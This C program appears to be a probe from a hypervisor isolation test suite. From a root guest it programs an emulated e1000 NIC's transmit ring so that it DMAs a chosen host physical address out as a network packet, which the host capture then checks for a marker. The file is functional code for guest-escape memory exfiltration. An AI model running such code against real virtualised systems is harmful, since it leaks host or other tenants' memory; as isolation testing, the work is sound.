// sv-nicdma: a hostile guest root makes an e1000 NIC DMA memory out in
// packets (issue 7, class 6). It sets Bus Master and Memory Space Enable
// (0xCFC), builds a legacy transmit ring in its own memory (physical
// addresses from /proc/self/pagemap) with two packets: one from its own
// buffer (a known pattern: proves the DMA path works) and one read straight
// from HVADDR (e.g. the hypervisor's memory marker), and starts the
// transmitter. The host captures the wire (QEMU filter-dump) and looks for
// the pattern and the marker. Intel 8254x SDM §3.3 (legacy transmit
// descriptor), §13.4 (registers). Boot the guest with iomem=relaxed.
//
// usage: sv-nicdma HVADDR     (hex physical address, 256 bytes are sent)
// Prints SV-INFO nicdma-* lines; exit status 0 when the ring was programmed.
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/io.h>
#include <sys/mman.h>
#include <time.h>
#include <unistd.h>
#include "sv-hw.h"

#define REG_TCTL 0x0400
#define REG_TDBAL 0x3800
#define REG_TDBAH 0x3804
#define REG_TDLEN 0x3808
#define REG_TDH 0x3810
#define REG_TDT 0x3818
#define TCTL_EN (1u << 1)
#define TCTL_PSP (1u << 3)
#define CMD_EOP 0x01
#define CMD_IFCS 0x02
#define CMD_RS 0x08
#define PATTERN "SV-NICDMA-GUEST-PATTERN-"

struct tx_desc {
    uint64_t addr;
    uint16_t length;
    uint8_t cso, cmd, status, css;
    uint16_t special;
};

static int find_e1000(unsigned *bus, unsigned *dev, unsigned *fn)
{
    for (unsigned b = 0; b < 256; b++)
        for (unsigned d = 0; d < 32; d++) {
            if (sv_pci_read32(b, d, 0, 0) == 0x100E8086u) {
                *bus = b;
                *dev = d;
                *fn = 0;
                return 0;
            }
        }
    return -1;
}

int main(int argc, char **argv)
{
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc != 2) {
        fprintf(stderr, "usage: sv-nicdma HVADDR\n");
        return 2;
    }
    const uint64_t hvaddr = strtoull(argv[1], NULL, 16);
    unsigned bus, dev, fn;
    if (iopl(3) || find_e1000(&bus, &dev, &fn)) {
        printf("SV-INFO nicdma-error no e1000 (or no iopl)\n");
        return 1;
    }
    const uint64_t bar0 = sv_pci_read32(bus, dev, fn, 0x10) & ~0xFu;
    outl(sv_pci_addr(bus, dev, fn, 4), 0xCF8);
    outw((uint16_t)(inw(0xCFC) | 0x6), 0xCFC); // memory space + bus master
    outl(sv_pci_addr(bus, dev, fn, 4), 0xCF8);
    const unsigned command = inw(0xCFC);
    printf("SV-INFO nicdma-device %02x:%02x.%x bar0 %llx command %04x bme %u\n", bus, dev, fn,
           (unsigned long long)bar0, command, (command >> 2) & 1);

    int mem = open("/dev/mem", O_RDWR | O_SYNC);
    volatile uint32_t *regs = mem < 0 ? MAP_FAILED
                                      : mmap(NULL, 0x20000, PROT_READ | PROT_WRITE, MAP_SHARED, mem, (off_t)bar0);
    if (regs == MAP_FAILED) {
        printf("SV-INFO nicdma-error cannot map BAR0 (boot with iomem=relaxed)\n");
        return 1;
    }
    uint8_t *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_LOCKED, -1, 0);
    if (page == MAP_FAILED) {
        printf("SV-INFO nicdma-error no locked page\n");
        return 1;
    }
    memset(page, 0, 4096);
    // Packet 1 (own buffer): broadcast Ethernet header, then the pattern.
    uint8_t *pkt = page + 2048;
    memset(pkt, 0xFF, 6);
    memcpy(pkt + 6, "\x52\x54\x00\x12\x34\x56\x88\xB5", 8); // source MAC, local experimental EtherType
    for (int i = 14; i + (int)sizeof PATTERN <= 256; i += (int)sizeof PATTERN - 1)
        memcpy(pkt + i, PATTERN, sizeof PATTERN - 1);
    const uint64_t ring_pa = sv_phys_of(page);
    if (!ring_pa) {
        printf("SV-INFO nicdma-error no physical address (pagemap)\n");
        return 1;
    }
    struct tx_desc *ring = (struct tx_desc *)page;
    ring[0] = (struct tx_desc){ring_pa + 2048, 256, 0, CMD_EOP | CMD_IFCS | CMD_RS, 0, 0, 0};
    // Packet 2: straight from HVADDR (the first 14 bytes become its "header").
    ring[1] = (struct tx_desc){hvaddr, 256, 0, CMD_EOP | CMD_IFCS | CMD_RS, 0, 0, 0};
    __sync_synchronize();
    regs[REG_TCTL / 4] = 0;
    regs[REG_TDBAL / 4] = (uint32_t)ring_pa;
    regs[REG_TDBAH / 4] = (uint32_t)(ring_pa >> 32);
    regs[REG_TDLEN / 4] = 256; // 16 descriptors (a multiple of 128 bytes)
    regs[REG_TDH / 4] = 0;
    regs[REG_TDT / 4] = 0;
    regs[REG_TCTL / 4] = TCTL_EN | TCTL_PSP;
    regs[REG_TDT / 4] = 2;
    struct timespec ts = {0, 200 * 1000 * 1000};
    nanosleep(&ts, NULL);
    printf("SV-INFO nicdma-sent ring %llx hvaddr %llx tdh %u status0 %02x status1 %02x\n",
           (unsigned long long)ring_pa, (unsigned long long)hvaddr, regs[REG_TDH / 4], ring[0].status,
           ring[1].status);
    regs[REG_TCTL / 4] = 0;
    return 0;
}
